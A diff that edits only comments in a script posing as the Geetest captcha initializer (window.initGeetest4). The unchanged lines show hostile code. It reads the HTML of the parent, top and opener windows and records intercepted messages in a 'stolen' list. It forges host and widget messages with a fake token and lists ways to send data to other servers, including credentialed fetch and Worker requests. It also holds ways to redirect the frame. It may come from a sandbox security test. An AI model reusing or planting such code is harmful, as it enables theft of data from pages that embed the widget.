@@ -25,7 +25,7 @@ window.initGeetest4 = (options, ready) => {
 
   const windows = { parent: window.parent, top: window.top, opener: window.opener, aunt: window.top?.opener };
 
-  /** What can be read. */
+  /** The data that the script tries to read. */
   async function read() {
     for (const [name, view] of Object.entries(windows)) {
       await attempt(`${name}: document`, () => view.document.documentElement.outerHTML);
@@ -51,7 +51,7 @@ window.initGeetest4 = (options, ready) => {
     window.addEventListener('message', ({ data }) => stolen.push({ name: 'message', found: String(data) }));
   }
 
-  /** What would pass for a message of the host or of the widget. */
+  /** Forged messages of the host and of the widget. */
   function forge() {
     const user = { token: 'forged', currency: 'USD' };
     const messages = [
@@ -84,7 +84,7 @@ window.initGeetest4 = (options, ready) => {
 
   const inWorker = (url) => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)})`])));
 
-  /** What could carry data away. Each sends to an address of its own. */
+  /** The ways to send data to another server. Each uses another address. */
   const channels = {
     fetch: (url) => void fetch(url, { mode: 'no-cors' }),
     'fetch with credentials': (url) => void fetch(url, { method: 'POST', body: 'x', credentials: 'include' }),
@@ -158,7 +158,7 @@ window.initGeetest4 = (options, ready) => {
     },
   };
 
-  /** What could take this frame elsewhere. The page is gone then, so each is a button. */
+  /** The ways to load another page into this frame. Each is a button, because the frame's page is then gone. */
   const exits = {
     address: (url) => {
       location.href = url;
